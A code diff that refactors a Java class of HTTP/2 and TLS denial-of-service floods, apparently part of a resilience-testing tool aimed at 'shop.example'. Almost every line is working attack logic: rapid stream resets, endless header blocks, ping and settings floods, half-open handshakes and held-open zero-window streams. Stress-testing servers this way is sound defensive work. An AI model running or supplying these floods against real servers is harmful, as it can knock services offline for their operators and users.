@@ -16,7 +16,7 @@ final class Http2Floods {
 
     static List<Attack> all() {
         Listing list = new Listing(Group.EXHAUSTION).on(Profile.TLS);
-        flood(list, "half-open-tls", "400 handshakes that stop half-way", 8, (target, held) -> {
+        list.flood("half-open-tls", "400 handshakes that stop half-way", 8, (target, held) -> {
             for (int i = 0; i < 50 && !held.isOver(); i++) {
                 Socket socket = held.keep(target.plain());
                 socket.getOutputStream().write(new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 252, 3, 3});
@@ -24,8 +24,7 @@ final class Http2Floods {
             }
             held.rest();
         });
-        flood(
-                list,
+        list.flood(
                 "h2-rapid-reset",
                 "1,040 streams a second that are reset at once",
                 4,
@@ -37,7 +36,7 @@ final class Http2Floods {
                     connection.flush();
                     Thread.sleep(50);
                 }));
-        flood(list, "h2-endless-header", "headers that go on without end", 4, reconnecting((connection, held) -> {
+        list.flood("h2-endless-header", "headers that go on without end", 4, reconnecting((connection, held) -> {
             int stream = connection.nextStream();
             connection.frame(Http2.HEADERS, Http2.END_STREAM, stream, Http2.block(get("/search")));
             byte[] more = Http2.block("x-a", "b".repeat(4_000));
@@ -46,7 +45,7 @@ final class Http2Floods {
                 Thread.sleep(5);
             }
         }));
-        flood(list, "h2-pings", "pings and settings, 20,000 a second", 4, reconnecting((connection, held) -> {
+        list.flood("h2-pings", "pings and settings, 20,000 a second", 4, reconnecting((connection, held) -> {
             for (int i = 0; i < 125; i++) {
                 connection.frame(Http2.PING, 0, 0, new byte[8]);
                 connection.frame(Http2.SETTINGS, 0, 0, new byte[0]);
@@ -54,7 +53,7 @@ final class Http2Floods {
             connection.flush();
             Thread.sleep(50);
         }));
-        flood(list, "h2-empty-frames", "data frames without data", 4, reconnecting((connection, held) -> {
+        list.flood("h2-empty-frames", "data frames without data", 4, reconnecting((connection, held) -> {
             int stream = connection.request(0, get("/search"));
             for (int i = 0; i < 200 && !held.isOver(); i++) {
                 for (int j = 0; j < 50; j++) {
@@ -64,12 +63,12 @@ final class Http2Floods {
                 Thread.sleep(20);
             }
         }));
-        flood(list, "h2-poisoned-paths", "120 paths with a space a second", 4, reconnecting((connection, held) -> {
+        list.flood("h2-poisoned-paths", "120 paths with a space a second", 4, reconnecting((connection, held) -> {
             connection.request(Http2.END_STREAM, get("/search x"));
             connection.flush();
             Thread.sleep(33);
         }));
-        flood(list, "h2-closed-window", "400 streams of 8 MB whose window is closed", 4, (target, held) -> {
+        list.flood("h2-closed-window", "400 streams of 8 MB whose window is closed", 4, (target, held) -> {
             Http2 connection = held.keep(target.connectHttp2());
             connection.frame(Http2.SETTINGS, 0, 0, NO_WINDOW);
             for (int i = 0; i < 100; i++) {
@@ -78,7 +77,7 @@ final class Http2Floods {
             connection.flush();
             held.rest();
         });
-        flood(list, "h2-event-streams", "400 event streams on four connections", 4, (target, held) -> {
+        list.flood("h2-event-streams", "400 event streams on four connections", 4, (target, held) -> {
             Http2 connection = held.keep(target.connectHttp2());
             for (int i = 0; i < 100; i++) {
                 connection.request(Http2.END_STREAM, get("/search/events"));
@@ -113,9 +112,5 @@ final class Http2Floods {
 
     private static String[] get(String path) {
         return new String[] {":method", "GET", ":scheme", "https", ":authority", "shop.example", ":path", path};
-    }
-
-    private static void flood(Listing list, String name, String about, int connections, Flood.Stream stream) {
-        list.script(name, about, new Flood(Profile.TLS, connections, stream));
     }
 }
